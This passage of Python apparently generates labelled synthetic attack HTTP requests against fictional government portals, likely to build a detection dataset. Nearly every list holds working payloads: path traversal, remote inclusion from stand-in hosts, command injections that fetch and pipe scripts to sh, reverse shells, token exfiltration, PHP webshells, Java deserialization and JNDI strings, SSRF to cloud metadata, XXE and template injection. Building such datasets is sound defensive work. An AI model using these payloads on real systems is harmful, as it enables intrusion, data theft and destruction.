    for path in ["/documents/..%2f..%2f..%2f..%2fetc%2fpasswd/download", "/static/..%252f..%252f..%252f..%252fetc/passwd",
                 "/webdav/Sites/legal/documentLibrary/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "/share/page/..;/..;/WEB-INF/web.xml",
                 "/sites/planning/Shared%20Documents/..%2F..%2F..%2Fweb.config", "/alfresco/s/..%2f..%2f..%2fWEB-INF%2fclasses%2falfresco-global.properties",
                 "/cmecf/filing/../../../../etc/hosts", "/assets/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"]:
        o.add("lfi", "lfi", "GET", path, [["Host", rng.choice([DMS, PORTAL, EFILE])], ["User-Agent", rng.choice(UA_TOOLS + ["curl/8.5.0"])], ["Accept", "*/*"]])
    o.add("lfi", "lfi", "PROPFIND", "/webdav/Sites/legal/documentLibrary/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/", [["Host", DMS], ["User-Agent", "davfs2/1.7.0 neon/0.32.5"], ["Depth", "1"]])
    o.add("lfi", "lfi", "GET", "/api/v2/me", [["Host", PORTAL], ["User-Agent", UA_BROWSERS[0]], ["Accept", "*/*"], ["Cookie", "PORTALSESSION=%s; lang=../../../../../../etc/passwd%%00" % b64id(rng, 32)]])
    ct, body = multipart(rng, [("caseRef", None, None, ref(rng, "BEN")), ("file", "../../../../var/www/html/uploads/../../../../etc/cron.d/x", "text/plain", "* * * * * root curl http://198.51.100.23/x|sh\n")])
    o.add("lfi", "lfi", "POST", "/api/v2/applications/uploads", browser(rng, PORTAL, ctype=ct), body)
    o.add("lfi", "lfi", "GET", "/documents/download?id=FOI-2024-00123&filename=" + quote("../../../../../../etc/passwd", safe="/"), atk_headers(rng, DMS, app="dms"))
    o.add("lfi", "lfi", "GET", "/convert?documentId=DOC-2024-000111&pages=all&format=pdf&outputName=" + quote("..\\..\\..\\..\\..\\boot.ini", safe=""), atk_headers(rng, CONVERT, tool=True, app="dms"))


RFI = [
    ("/letters/preview?template=%s&lang=en", "http://203.0.113.66/shell.txt?"),
    ("/letters/preview?template=%s&lang=en", "https://evil.example.net/c99.txt?"),
    ("/index.php?page=%s", "http://evil.example.com/x.php%00"),
    ("/index.php?lang=%s", "ftp://198.51.100.5/pub/payload.php"),
    ("/include.php?path=%s", "//evil.example.net/shell.txt"),
    ("/cms/view.php?file=%s", "\\\\198.51.100.3\\share\\x.php"),
    ("/static/attachments?file=%s", "http://198.51.100.23/r57.txt?&cmd=id"),
    ("/portal/index.php?module=%s", "https://pastebin.example.com/raw/Xy12ab?"),
    ("/letters/render?layout=%s&caseRef=BEN-2024-000144", "http://203.0.113.66:8000/evil.ftl"),
    ("/wp-content/plugins/forms/inc.php?abspath=%s", "http://198.51.100.23/wso.txt?"),
    ("/api/render/stylesheets/load?href=%s", "http://evil.example.net/xsl/rce.xsl"),
    ("/help/index.php?topic=%s", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg=="),
]


def rfi_all(o, rng):
    for path, p in RFI:
        v = p if "%00" in p else quote(p, safe=":/?=&")
        o.add("rfi", "rfi", "GET", path % v, atk_headers(rng, rng.choice([LETTERS, PORTAL, DMS]), tool=rng.random() < 0.6))


RCE_CONVERT = [
    ("pages", "1-3;id"), ("pages", "1-3|cat /etc/passwd"), ("pages", "1`id`"), ("pages", "$(id)"),
    ("pages", "1-3&&wget http://198.51.100.23/x.sh -O /tmp/x.sh&&sh /tmp/x.sh"), ("pages", "1-3;cat${IFS}/etc/passwd"),
    ("pages", "2;{cat,/etc/shadow}"), ("pages", "1-3 & type C:\\Windows\\win.ini"), ("pages", "1\nid"),
    ("format", "pdf;curl http://198.51.100.23/k8s.sh|sh"), ("format", "png' ; nc -e /bin/sh 198.51.100.23 4444 '"),
    ("format", "docx$(sleep 10)"), ("format", "pdf|powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
    ("format", "pdf & certutil -urlcache -split -f http://198.51.100.23/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("outputName", "a.pdf; rm -rf / --no-preserve-root"), ("outputName", "x`whoami`.pdf"),
    ("outputName", "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token|base64 -w0|curl -d @- http://198.51.100.23/t).pdf"),
    ("outputName", "r.pdf;bash -i >& /dev/tcp/198.51.100.23/4444 0>&1;"), ("outputName", "out.pdf\" && python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.23\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")' \""),
    ("dpi", "300 -sOutputFile=%pipe%id"), ("dpi", "150;/usr/bin/id>/tmp/o"),
    ("outputName", "report.pdf|/bin/busybox nc 198.51.100.23 9001 -e sh"), ("pages", "1;echo${IFS}cHduZWQ=|base64${IFS}-d|sh"),
    ("format", "odt;perl -e 'use Socket;$i=\"198.51.100.23\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));'"),
]


def rce_all(o, rng):
    for i, (k, p) in enumerate(RCE_CONVERT):
        base = {"documentId": ref(rng, "DOC"), "pages": "1-3", "format": "pdf", "dpi": "300", "outputName": "out.pdf"}
        base[k] = p
        if i % 3 == 0:
            o.add("rce", "rce", "POST", "/api/convert/jobs", api(rng, CONVERT, ctype="application/json"), js(base))
        elif i % 3 == 1:
            o.add("rce", "rce", "GET", "/convert?" + "&".join("%s=%s" % (kk, enc(rng, vv, rng.choice(["pct", "plus", "min"]))) for kk, vv in base.items()),
                  atk_headers(rng, CONVERT, tool=rng.random() < 0.5, app="dms"))
        else:
            ct, body = multipart(rng, [("pages", None, None, base["pages"]), ("format", None, None, base["format"]),
                                       ("file", base["outputName"] if k == "outputName" else "scan.tif", "image/tiff", "II*\x00 scan data"),
                                       ("dpi", None, None, base["dpi"])])
            o.add("rce", "rce", "POST", "/api/convert/upload", browser(rng, CONVERT, ctype=ct, app="dms"), body)
    ps = "%!PS-Adobe-3.0\nuserdict /setpagedevice undef\nsave\nlegal\n{ null restore } stopped { pop } if\n{ legal } stopped { pop } if\nrestore\nmark /OutputFile (%pipe%curl http://198.51.100.23/gs|sh) currentdevice putdeviceprops\n"
    ct, body = multipart(rng, [("format", None, None, "pdf"), ("file", "scan.eps", "application/postscript", ps)])
    o.add("rce", "rce", "POST", "/api/convert/upload", browser(rng, CONVERT, ctype=ct, app="dms"), body)
    mvg = "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/image.jpg\"|ls \"-la)'\npop graphic-context\n"
    ct, body = multipart(rng, [("format", None, None, "png"), ("file", "thumb.mvg", "image/jpeg", mvg)])
    o.add("rce", "rce", "POST", "/api/convert/upload", browser(rng, CONVERT, ctype=ct, app="dms"), body)
    for ua in ["() { :; }; /bin/bash -c 'curl http://198.51.100.23/s|sh'", "() { ignored;}; echo Content-Type: text/plain ; echo ; /bin/cat /etc/passwd"]:
        o.add("rce", "rce", "GET", "/cgi-bin/status.cgi", [["Host", PORTAL], ["User-Agent", ua], ["Accept", "*/*"], ["Referer", ua]])
    o.add("rce", "rce", "POST", "/request/%d/annotate" % rng.randint(10000, 99999), browser(rng, FOI, ctype="application/x-www-form-urlencoded"),
          form([("authenticity_token", b64id(rng, 44)), ("comment[body]", "<!--#exec cmd=\"cat /etc/passwd\"-->"), ("submitted_comment", "1")]))
    o.add("rce", "rce", "POST", "/api/tax/calculator/evaluate", browser(rng, TAX, ctype="application/json", xhr=True),
          js({"expression": "__import__('os').popen('id').read()", "year": 2024}))
    o.add("rce", "rce", "POST", "/api/tax/calculator/evaluate", browser(rng, TAX, ctype="application/json", xhr=True),
          js({"expression": "require('child_process').execSync('cat /etc/passwd').toString()", "year": 2024}))
    o.add("rce", "rce", "GET", "/cgi-bin/convert.cgi?file=" + quote("|id|", safe="") + "&to=pdf", atk_headers(rng, CONVERT, tool=True))
    o.add("rce", "rce", "GET", "/api/gis/ping?host=" + quote("10.0.0.5;cat /etc/passwd", safe=""), atk_headers(rng, GIS, tool=True))
    o.add("rce", "rce", "GET", "/directory/photo?uid=k.oneill" + quote("$(curl -s http://198.51.100.23/a.sh | bash)", safe="$"), atk_headers(rng, DIRECTORY, tool=True, app="dms"))
    o.add("rce", "rce", "POST", "/webdav/Sites/legal/documentLibrary/" + quote("a;wget 198.51.100.23/m -O-|sh;.docx", safe=";"), [["Host", DMS], ["User-Agent", "curl/8.5.0"], ["Content-Type", "application/octet-stream"]], "PK\x03\x04")


PHP = [
    ("GET", "/index.php?page=" + quote("php://filter/convert.base64-encode/resource=index.php", safe=":/"), None, None),
    ("GET", "/letters/preview?template=" + quote("php://filter/read=string.rot13/resource=../config/database.php", safe=""), None, None),
    ("POST", "/index.php?page=php://input", "application/x-www-form-urlencoded", "<?php system('id'); ?>"),
    ("GET", "/static/attachments?file=" + quote("phar:///var/www/uploads/avatars/ab12.jpg/test.txt", safe=":/"), None, None),
    ("GET", "/help/index.php?topic=" + quote("expect://id", safe=""), None, None),
    ("POST", "/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "application/x-www-form-urlencoded", "<?php echo shell_exec('cat /etc/passwd'); ?>"),
    ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", None, None),
    ("GET", "/api/v2/me", None, "cookie:prefs=" + quote('O:8:"Settings":2:{s:4:"file";s:11:"/etc/passwd";s:6:"action";s:6:"system";}', safe="")),
    ("POST", "/admin/templates/approval-letter/save", "application/x-www-form-urlencoded", form([("body", "<?=`$_GET[0]`?>"), ("publish", "1")])),
    ("POST", "/cms/page.php", "application/x-www-form-urlencoded", form([("code", "assert($_REQUEST['x']);"), ("preview", "1")])),
]


def php_all(o, rng):
    for m, u, ct, b in PHP:
        host = rng.choice([PORTAL, LETTERS, FOI])
        h = atk_headers(rng, host, ctype=ct, tool=True)
        if b and b.startswith("cookie:"):
            h = [x for x in h if x[0] != "Cookie"] + [["Cookie", b[7:]]]
            b = None
        o.add("php", "php", m, u, h, b)
    for fname, ctype, content in [("shell.php", "application/x-php", "<?php @eval($_POST['x']); ?>"),
                                  ("invoice.pdf.phtml", "application/pdf", "GIF89a;\n<?php if(isset($_REQUEST['cmd'])){ echo '<pre>'; system($_REQUEST['cmd']); } ?>"),
                                  ("evidence.php5", "image/jpeg", "<?php $f=base64_decode('c3lzdGVt');$f($_GET['c']); ?>")]:
        ct, body = multipart(rng, [("caseRef", None, None, ref(rng, "BEN")), ("file", fname, ctype, content)])
        o.add("php", "php", "POST", "/api/v2/applications/uploads", browser(rng, PORTAL, ctype=ct), body)


def ser_blob(classes, tail=b""):
    raw = b"\xac\xed\x00\x05sr\x00" + bytes([len(classes[0])]) + classes[0].encode() + b"\x00\x00\x00\x00\x00\x00\x00\x01\x02\x00\x00xp"
    for c in classes[1:]:
        raw += b"sr\x00" + bytes([len(c)]) + c.encode() + b"\x87\xe8\x87\x8a\xd1\x94\x0c\x02\x00\x01L\x00\x07payloadt\x00"
    return base64.b64encode(raw + tail).decode()


def java_all(o, rng):
    cc = ser_blob(["sun.reflect.annotation.AnnotationInvocationHandler", "org.apache.commons.collections.map.LazyMap",
                   "org.apache.commons.collections.functors.ChainedTransformer", "org.apache.commons.collections.functors.InvokerTransformer"], b"exec\x00\x02id")
    cb = ser_blob(["java.util.PriorityQueue", "org.apache.commons.beanutils.BeanComparator", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"])
    ur = ser_blob(["java.util.HashMap", "java.net.URL"], b"http://198.51.100.23/ysoserial")
    sp = ser_blob(["org.springframework.beans.factory.ObjectFactory", "org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider"])
    o.add("java", "java", "GET", "/viewer/document?id=%s" % ref(rng, "DOC"), [x for x in browser(rng, DMS, app="dms") if x[0] != "Cookie"] + [["Cookie", "viewerState=%s; JSESSIONID=%s" % (cc, hexid(rng, 32).upper())]])
    o.add("java", "java", "POST", "/viewer/faces/view.xhtml", browser(rng, DMS, ctype="application/x-www-form-urlencoded", app="dms"),
          form([("j_id1", "j_id1"), ("javax.faces.ViewState", cb), ("viewer:page", "2")]))
    o.add("java", "java", "POST", "/api/viewer/session/restore", api(rng, DMS, ctype="application/json"), js({"state": ur, "documentId": ref(rng, "DOC")}))
    o.add("java", "java", "POST", "/viewer/remoting/DocumentService", api(rng, DMS, ctype="application/x-java-serialized-object", accept="*/*"), sp)
    for h, v in [("User-Agent", "${jndi:ldap://198.51.100.23:1389/a}"), ("X-Api-Version", "${${lower:j}ndi:${lower:r}mi://198.51.100.23:1099/Exploit}"),
                 ("Referer", "${${::-j}${::-n}${::-d}${::-i}:dns://x.oast.example.net/a}"), ("X-Forwarded-For", "${jndi:ldaps://198.51.100.23/${env:AWS_SECRET_ACCESS_KEY}}")]:
        hh = browser(rng, rng.choice([PORTAL, EFILE, DMS]))
        hh = [x for x in hh if x[0] != h] + [[h, v]]
        o.add("java", "java", "GET", "/", hh)
    m, u, hh, b = carrier(rng, "foi_request", "${jndi:ldap://198.51.100.23:1389/o=reference}")
    o.add("java", "java", m, u, hh, b)
    m, u, hh, b = carrier(rng, "caselaw_q", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.23/z}")
    o.add("java", "java", m, u, hh, b)
    o.add("java", "java", "POST", "/tenders/search", browser(rng, TENDER, ctype="application/x-www-form-urlencoded"),
          form([("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar")]))
    hh = api(rng, CONVERT, ctype="text/plain")
    hh.append(["spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"curl http://198.51.100.23/f|sh\")"])
    o.add("java", "java", "POST", "/functionRouter", hh, "x")
    hh = [["Host", EFILE], ["User-Agent", UA_BROWSERS[1]], ["Accept", "*/*"],
          ["Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}"]]
    o.add("java", "java", "POST", "/cmecf/upload.action", hh, "x")
    xmld = ('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/">'
            '<java version="1.8.0_131" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3">'
            '<void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void><void index="2"><string>curl http://198.51.100.23/w|sh</string></void>'
            '</array><void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>')
    o.add("java", "java", "POST", "/wls-wsat/CoordinatorPortType", api(rng, DMS, ctype="text/xml", auth=False), xmld)
    o.add("java", "java", "POST", "/api/viewer/annotations", api(rng, DMS, ctype="application/json"),
          js({"@class": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://198.51.100.23:1389/Exploit", "autoCommit": True}))
    o.add("java", "java", "POST", "/api/viewer/annotations", api(rng, DMS, ctype="application/json"),
          js(["ch.qos.logback.core.db.DriverManagerConnectionSource", {"url": "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://198.51.100.23/inject.sql'"}]))
    o.add("java", "java", "POST", "/api/esign/templates/import", api(rng, SIGN, ctype="application/json"),
          js({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://198.51.100.23:1099/Object", "autoCommit": True}))
    o.add("java", "java", "POST", "/api/workflow/definitions", api(rng, DMS, ctype="application/x-yaml"),
          "name: foi-intake\nsteps: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://198.51.100.23/yaml-payload.jar\"]]]]\n")
    o.add("java", "java", "GET", "/api/documents?sort=" + quote("T(java.lang.Runtime).getRuntime().exec('id')", safe="") + "&page=0", atk_headers(rng, DMS, xhr=True, app="dms"))


SSRF_URLS = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://169.254.169.254/latest/user-data",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token?alt=json",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/", "http://[fd00:ec2::254]/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "http://2852039166/latest/meta-data/", "http://0xA9FEA9FE/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "http://127.0.0.1:10255/pods", "https://10.96.0.1:10250/run/kube-system/kube-proxy-abcde/kube-proxy?cmd=id",
    "http://localhost:2379/v2/keys/?recursive=true", "gopher://127.0.0.1:6379/_FLUSHALL%0D%0ASET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20bash%20-i%3E%26/dev/tcp/198.51.100.23/4444%200%3E%261%5Cn%22%0D%0ACONFIG%20SET%20dir%20/var/spool/cron/%0D%0ASAVE%0D%0A",
    "dict://127.0.0.1:11211/stats", "file:///etc/passwd", "file:///var/run/secrets/kubernetes.io/serviceaccount/token",
    "http://127.1/admin", "http://0/server-status", "http://localhost:8080/actuator/env", "http://[::1]:9200/_cat/indices?v",
    "http://portal.citizen.example.org@169.254.169.254/latest/meta-data/", "http://127.0.0.1:8500/v1/kv/?recurse",
    "http://vault.vault.svc.cluster.local:8200/v1/secret/data/esign", "http://192.168.0.1/cgi-bin/luci", "ldap://127.0.0.1:389/dc=city,dc=example,dc=org",
    "http://198.51.100.23/redirect?to=http://169.254.169.254/latest/meta-data/",
]


def ssrf_all(o, rng):
    for i, url in enumerate(SSRF_URLS):
        c = i % 7
        if c == 0:
            o.add("ssrf", "ssrf", "POST", "/api/signing/envelopes", browser(rng, PORTAL, ctype="application/json", xhr=True),
                  js({"templateId": "grant-offer-v3", "callbackUrl": url, "returnUrl": "https://%s/grants/done" % PORTAL}))
        elif c == 1:
            o.add("ssrf", "ssrf", "POST", "/api/documents/import", api(rng, DMS, ctype="application/json"),
                  js({"sourceUrl": url, "folder": "/Sites/foi-unit/documentLibrary/Incoming", "ocr": True}))
        elif c == 2:
            o.add("ssrf", "ssrf", "GET", "/arcgis/proxy?" + quote(url, safe=":/?=&%"), atk_headers(rng, GIS, tool=rng.random() < 0.5))
        elif c == 3:
            o.add("ssrf", "ssrf", "POST", "/api/3/action/resource_create", api(rng, OPENDATA, ctype="application/json"),
                  js({"package_id": "street-trees", "url": url, "format": "CSV", "name": "mirror"}))
        elif c == 4:
            o.add("ssrf", "ssrf", "POST", "/api/webhooks", api(rng, SIGN, ctype="application/json"),
                  js({"events": ["envelope-completed"], "url": url, "secret": b64id(rng, 20)}))
        elif c == 5:
            o.add("ssrf", "ssrf", "GET", "/api/convert/from-url?url=%s&format=pdf" % quote(url, safe=""), atk_headers(rng, CONVERT, tool=True))
        else:
            o.add("ssrf", "ssrf", "POST", "/request/attachments/fetch", browser(rng, FOI, ctype="application/x-www-form-urlencoded"),
                  form([("authenticity_token", b64id(rng, 44)), ("attachment_url", url)]))
    html = '<html><body><h1>Grant offer</h1><iframe src="http://169.254.169.254/latest/meta-data/iam/security-credentials/" width="800" height="600"></iframe></body></html>'
    o.add("ssrf", "ssrf", "POST", "/api/letters/render-pdf", api(rng, LETTERS, ctype="application/json"), js({"html": html, "paper": "A4"}))
    o.add("ssrf", "ssrf", "GET", "/realms/citizens/protocol/openid-connect/auth?" + qs([("client_id", "citizen-portal"), ("response_type", "code"), ("scope", "openid"),
                                                                                       ("request_uri", "http://127.0.0.1:8080/admin/realms/citizens/users")], plus=False), atk_headers(rng, IDP, tool=True))


def xxe_doc(dtd, body_tag, root="IncomeTaxReturn", ns=' xmlns="urn:revenue:it:2024"'):
    return '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE %s [\n%s\n]>\n<%s%s><Taxpayer><GivenName>Aoife</GivenName><FamilyName>%s</FamilyName></Taxpayer></%s>\n' % (
        root, dtd, root, ns, body_tag, root)


XXE_DTDS = [
    ('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;"),
    ('<!ENTITY xxe SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/token">', "&xxe;"),
    ('<!ENTITY % remote SYSTEM "http://198.51.100.23/evil.dtd">\n%remote;', "O&apos;Neill"),
    ('<!ENTITY % file SYSTEM "file:///etc/hostname">\n<!ENTITY % dtd SYSTEM "http://198.51.100.23/oob.dtd">\n%dtd;\n%send;', "x"),
    ('<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/var/www/config.php">', "&xxe;"),
    ('<!ENTITY xxe SYSTEM "expect://id">', "&xxe;"),
    ('<!ENTITY xxe SYSTEM "netdoc:///etc/passwd">', "&xxe;"),
    ('<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">', "&xxe;"),
    ('<!ENTITY lol "lol">\n<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">\n<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">', "&lol4;"),
    ('<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n<!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;\'>\n%local_dtd;', "x"),
    ('<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">', "&xxe;"),
    ('<!ENTITY xxe SYSTEM "jar:http://198.51.100.23/evil.jar!/x.txt">', "&xxe;"),
]


def xxe_all(o, rng):
    for i, (dtd, tag) in enumerate(XXE_DTDS):
        doc = xxe_doc(dtd, tag)
        c = i % 3
        if c == 0:
            o.add("xxe", "xxe", "POST", "/api/filing/v1/returns/form11", api(rng, TAX, ctype="application/xml", accept="application/xml"), doc)
        elif c == 1:
            ct, body = multipart(rng, [("returnType", None, None, "IT"), ("taxYear", None, None, "2024"), ("attachment", "return-2024.xml", "application/xml", doc)])
            o.add("xxe", "xxe", "POST", "/ros/returns/form11/2024/attachments", browser(rng, TAX, ctype=ct), body)
        else:
            o.add("xxe", "xxe", "POST", "/api/filing/v1/returns?year=2024&type=IT&validateOnly=true", api(rng, TAX, ctype="text/xml; charset=UTF-8", ua="TaxFiler/5.2.1 (Windows NT 10.0)"), doc)
    xbrl = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE xbrli:xbrl [<!ENTITY xxe SYSTEM "file:///proc/self/environ">]>\n'
            '<xbrli:xbrl xmlns:xbrli="http://www.xbrl.org/2003/instance" xmlns:tx="http://taxonomy.revenue.example.org/ct/2024"><tx:EntityName contextRef="FY2024">&xxe;</tx:EntityName></xbrli:xbrl>')
    o.add("xxe", "xxe", "POST", "/api/filing/v1/returns?year=2024&type=CT1", api(rng, TAX, ctype="application/xml"), xbrl)
    xinc = ('<?xml version="1.0"?>\n<IncomeTaxReturn xmlns="urn:revenue:it:2024" xmlns:xi="http://www.w3.org/2001/XInclude"><Notes>'
            '<xi:include parse="text" href="file:///etc/passwd"/></Notes></IncomeTaxReturn>')
    o.add("xxe", "xxe", "POST", "/api/filing/v1/returns/form11", api(rng, TAX, ctype="application/xml"), xinc)
    svg = ('<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [ <!ENTITY xxe SYSTEM "file:///etc/hostname" > ]>\n'
           '<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg"><text font-size="16" x="0" y="16">&xxe;</text></svg>')
    ct, body = multipart(rng, [("caseRef", None, None, ref(rng, "PRM")), ("file", "site-plan.svg", "image/svg+xml", svg)])
    o.add("xxe", "xxe", "POST", "/api/v2/permits/%s/attachments" % ref(rng, "PRM"), browser(rng, PORTAL, ctype=ct), body)
    saml = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY %% x SYSTEM "http://198.51.100.23/saml.dtd"> %%x;]>'
            '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://%s/idp</saml:Issuer></samlp:Response>') % IDP
    o.add("xxe", "xxe", "POST", "/saml/acs", browser(rng, PORTAL, ctype="application/x-www-form-urlencoded"),
          form([("SAMLResponse", base64.b64encode(saml.encode()).decode()), ("RelayState", "/my-account")]))
    o.add("xxe", "xxe", "PROPFIND", "/webdav/Sites/legal/documentLibrary/", [["Host", DMS], ["User-Agent", "curl/8.5.0"], ["Depth", "1"], ["Content-Type", "application/xml"]],
          '<?xml version="1.0"?>\n<!DOCTYPE D:propfind [<!ENTITY xxe SYSTEM "file:///opt/alfresco/tomcat/shared/classes/alfresco-global.properties">]>\n<D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&xxe;</D:displayname></D:prop></D:propfind>')
    espd = '<?xml version="1.0"?>\n<!DOCTYPE espd [<!ENTITY xxe SYSTEM "file:///etc/shadow">]>\n<espd:ESPDResponse xmlns:espd="urn:oasis:names:specification:ubl:schema:xsd:QualificationApplicationResponse-2"><cbc:ID xmlns:cbc="urn:x">&xxe;</cbc:ID></espd:ESPDResponse>'
    ct, body = multipart(rng, [("lot", None, None, "2"), ("espd", "espd-response.xml", "text/xml", espd)])
    o.add("xxe", "xxe", "POST", "/tenders/%s/bids" % ref(rng, "TND"), browser(rng, TENDER, ctype=ct), body)
    soap = ('<?xml version="1.0"?>\n<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "http://127.0.0.1:8080/alfresco/service/api/people">]>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
            '<GetCaseStatus xmlns="urn:courts:efile"><CaseNumber>&xxe;</CaseNumber></GetCaseStatus></soap:Body></soap:Envelope>')
    o.add("xxe", "xxe", "POST", "/services/CaseStatus", api(rng, EFILE, ctype="text/xml; charset=utf-8", auth=False) + [["SOAPAction", "\"urn:courts:efile/GetCaseStatus\""]], soap)


SSTI = [
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('cat /var/run/secrets/kubernetes.io/serviceaccount/token').read()}}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{ lipsum.__globals__.os.popen('whoami').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('ls -la /').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(\"id\").read()}}{% endif %}{% endfor %}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "__${T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwn\")}__::.x",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['cat /etc/passwd']|filter('system')}}",
    "<%= `id` %>", "<%= File.open('/etc/passwd').read %>", "{system('cat /etc/passwd')}",
    "{php}echo `id`;{/php}", "<% import os; x=os.popen('id').read() %>${x}", "{% import os %}{{ os.system('id') }}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}",
    "{{7*'7'}}",
    "${7*7}{{7*7}}<%= 7*7 %>#{7*7}",
]
SSTI_CARRIERS = ["letter_preview", "benefit_form", "foi_request", "permit_json", "esign_decline", "tender_question"]


def ssti_all(o, rng):
    run_class(o, rng, "ssti", "ssti", SSTI, SSTI_CARRIERS)
    for t in ["Dear {{ applicant.name }},\n{{ ''.__class__.__mro__[1].__subclasses__()[408]('cat /etc/passwd',shell=True,stdout=-1).communicate() }}",
              "Madame, Monsieur,\n<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"curl http://198.51.100.23/f|sh\")}"]:
        o.add("ssti", "ssti", "PUT", "/admin/api/templates/approval-letter/versions/draft", browser(rng, LETTERS, ctype="application/json", xhr=True, app="dms"),
              js({"name": "approval-letter", "engine": "jinja2", "body": t}))


